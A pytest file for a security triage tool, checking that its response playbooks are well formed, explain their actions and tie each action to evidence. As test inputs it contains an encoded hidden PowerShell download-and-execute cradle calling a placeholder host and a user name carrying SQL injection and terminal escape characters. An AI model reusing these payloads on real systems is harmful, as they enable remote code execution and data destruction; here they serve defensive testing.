"""Playbooks: the shipped files hold together, wrong ones are refused, actions say why and how."""

import re
from base64 import b64encode
from collections.abc import Mapping

import pytest
from tests.unit.triage_dossiers import BEACON, THEIRS, WORKSTATION, dossier, listed, network_alert

from tocsin.errors import SettingsError
from tocsin.knowledge import attack
from tocsin.model import (
    Action,
    Alert,
    Disposition,
    Event,
    NetworkDirection,
    ObservableRole,
    Process,
    ResponsePhase,
    Rule,
    Threat,
    User,
)
from tocsin.triage import shipped_model, triage
from tocsin.triage.evidence import resolve
from tocsin.triage.playbooks import Playbooks
from tocsin.triage.playbooks.files import ACTIONS, FALLBACK, read
from tocsin.triage.weights import load, playbook_files

SHIPPED = playbook_files()
FAMILIES = load()[0].family
CHANGES = frozenset({ResponsePhase.CONTAINMENT, ResponsePhase.ERADICATION, ResponsePhase.RECOVERY})


def changed(name: str, old: bytes, new: bytes) -> Mapping[str, bytes]:
    assert old in SHIPPED[name]
    return {**SHIPPED, name: SHIPPED[name].replace(old, new, 1)}


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        (ACTIONS, b'entity = "remote_ip"', b'entity = "remote"', r"no entity remote"),
        (ACTIONS, b"Isolate ENTITY from", b"Isolate it from", r"isolate_host: title needs one"),
        (ACTIONS, b'"M1030"', b'"M9999"', r"isolate_host: ATT&CK has no mitigation M9999"),
        (ACTIONS, b'"D3-NI"', b'"D4-NI"', r"isolate_host: D4-NI is not an id of D3FEND"),
        (ACTIONS, b'"intel."', b'"Intel {} %s"', r"isolate_host: Intel \{\} %s is no beginning"),
        (ACTIONS, b'phase = "containment"', b'phase = "contain"', r"actions\.toml.*phase"),
        (ACTIONS, b"[investigate_alert]", b"[investigate]", r"lacks investigate_alert"),
        ("phishing.toml", b'"block_sender"', b'"burn_sender"', r"attack 1: no action burn_sender"),
        ("phishing.toml", b'"T1566"', b'"T0001"', r"phishing\.toml: ATT&CK has no technique T0001"),
        ("phishing.toml", b'["phishing"]', b'["fishing"]', r"phishing\.toml: no family fishing"),
        ("phishing.toml", b'["phishing"]', b'["scan"]', r"phishing\.toml serves scan already"),
        ("phishing.toml", b'"block_url"', b'"block_sender"', r"attack: block_sender twice"),
        ("phishing.toml", b"[[open]]", b"[[opened]]", r"phishing\.toml.*opened"),
        ("phishing.toml", b"title", b"\xff", r"phishing\.toml"),
        ("default.toml", b"default = true", b"default = false", r"no file serves default"),
        (
            "false_alarm.toml",
            b'"false_positive"',
            b'"undetermined"',
            r"alarm\.toml: a verdict",
        ),
        (
            "false_alarm.toml",
            b'"false_positive"',
            b'"benign_positive"',
            r"no file serves false",
        ),
    ],
)
def test_files_that_cannot_work_are_refused_by_name_and_entry(
    name: str, old: bytes, new: bytes, said: str
) -> None:
    with pytest.raises(SettingsError, match=rf"(?s)triage/playbooks/.*{said}"):
        Playbooks(load()[0], changed(name, old, new))


def test_without_the_list_of_actions_nothing_works() -> None:
    with pytest.raises(SettingsError, match=r"actions\.toml is missing"):
        read({name: text for name, text in SHIPPED.items() if name != ACTIONS}, FAMILIES)


def test_every_action_is_used_and_says_what_it_takes_and_how_to_undo_it() -> None:
    actions, playbooks = read(SHIPPED, FAMILIES)
    used = {
        step.action
        for playbook in playbooks.values()
        for step in (*playbook.attack, *playbook.open, *playbook.harmless)
    }
    assert actions.keys() - used <= {FALLBACK}
    for code, action in actions.items():
        assert action.effort, code
        assert action.blast_radius, code
        assert action.reason.endswith("."), code
        if action.phase in CHANGES:
            assert action.undo, code
        for identifier in action.mitigations:
            assert attack.mitigations()[identifier]


def test_every_family_that_can_be_an_attack_has_a_playbook() -> None:
    _, playbooks = read(SHIPPED, FAMILIES)
    served = {family for playbook in playbooks.values() for family in playbook.families}
    assert FAMILIES.keys() - served == {"hunting", "information", "legacy", "decoder", "routine"}


def test_an_action_points_at_the_evidence_that_asks_for_it() -> None:
    case = dossier(
        "suricata", BEACON, NetworkDirection.OUTBOUND,
        intel=(listed(THEIRS, ObservableRole.DESTINATION),),
    )  # fmt: skip
    verdict = triage(case)
    done = {action.action: action for action in verdict.recommended_actions}
    block = done["block_ip"]
    assert (block.entity, block.phase) == (THEIRS, ResponsePhase.CONTAINMENT)
    assert block.evidence
    raising = {item.pointer for item in verdict.evidence if item.weight > 0}
    for action in verdict.recommended_actions:
        assert set(action.evidence) <= raising
        for pointer in action.evidence:
            assert resolve(pointer, case) is not None
    assert done["isolate_host"].undo
    assert done["isolate_host"].countermeasures == ("D3-NI",)
    assert [a.priority for a in verdict.recommended_actions] == list(range(1, len(done) + 1))


def test_many_findings_in_one_place_are_one_pointer() -> None:
    encoded = b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')".encode("utf-16le")
    )
    alert = Alert(
        title="Suspicious PowerShell",
        rule=Rule(name="Suspicious PowerShell"),
        process=Process(
            name="powershell.exe",
            command_line=f"powershell -nop -w hidden -enc {encoded.decode()}",
        ),
    )
    verdict = triage(dossier("unknown", alert, None))
    places = [item.pointer for item in verdict.evidence if item.weight > 0]
    assert len(places) > len(set(places))
    tied = [action.evidence for action in verdict.recommended_actions if action.evidence]
    assert tied
    assert all(len(set(pointers)) == len(pointers) for pointers in tied)


def test_what_is_harmless_points_at_what_lowered_it() -> None:
    scanner = dossier(
        "suricata",
        network_alert("ET SCAN Potential SSH Scan", outbound=True),
        NetworkDirection.OUTBOUND,
        asset=type(WORKSTATION)(asset_id="a-9", ip="10.20.1.5", tags=("vulnerability-scanner",)),
    )
    verdict = triage(scanner)
    assert verdict.verdict in (Disposition.FALSE_POSITIVE, Disposition.BENIGN_POSITIVE)
    lowering = {item.pointer for item in verdict.evidence if item.weight < 0}
    pointed = {pointer for a in verdict.recommended_actions for pointer in a.evidence}
    assert pointed <= lowering


def recommended(family: str | None, *techniques: str, attacked: bool = True) -> tuple[Action, ...]:
    """What the shipped playbooks say of a rule of this family with these techniques."""
    from tocsin.triage.case import Case

    model = shipped_model()
    titles = {None: "Rule 17 fired", "anomaly": "Anomaly", "malware": "Trojan found"}
    case = Case(
        dossier(
            "generic",
            Alert(
                title=titles[family],
                event=Event(),
                rule=Rule(id="17"),
                user=User(name="alice"),
                threat=Threat(techniques=techniques),
            ),
        ),
        model.weights,
        model.families,
    )
    verdict = Disposition.TRUE_POSITIVE if attacked else Disposition.UNDETERMINED
    return model.playbooks.actions(case, verdict, ())


def codes(actions: tuple[Action, ...]) -> list[str]:
    return [action.action for action in actions]


def test_the_technique_decides_where_the_family_says_nothing() -> None:
    assert "require_second_factor" in codes(recommended(None, "T1110.003"))
    assert "require_second_factor" not in codes(recommended(None))
    assert "rotate_secrets" in codes(recommended(None, "T9999", "T1003.001"))


def test_some_techniques_decide_whatever_the_family() -> None:
    assert "restore_data" not in codes(recommended("malware", "T1204.002"))
    assert "restore_data" in codes(recommended("malware", "T1204.002", "T1486"))
    assert codes(recommended(None, "T1078.004"))[0] == "revoke_cloud_keys"
    assert codes(recommended(None, "T1213", attacked=False))[0] == "consult_people_and_law"


def test_hostile_names_of_entities_stay_one_printable_line() -> None:
    from tocsin.triage.case import Case

    model = shipped_model()
    hostile = "al{}ice %s\n\x1b[31m\0'; DROP TABLE" + "x" * 10_000
    case = Case(
        dossier("generic", Alert(title="Trojan found", user=User(name=hostile)), user=None),
        model.weights,
        model.families,
    )
    for action in model.playbooks.actions(case, Disposition.TRUE_POSITIVE, ()):
        assert action.title.isprintable()
        assert len(action.title) < 400
        assert not re.search(r"ENTITY", action.title)
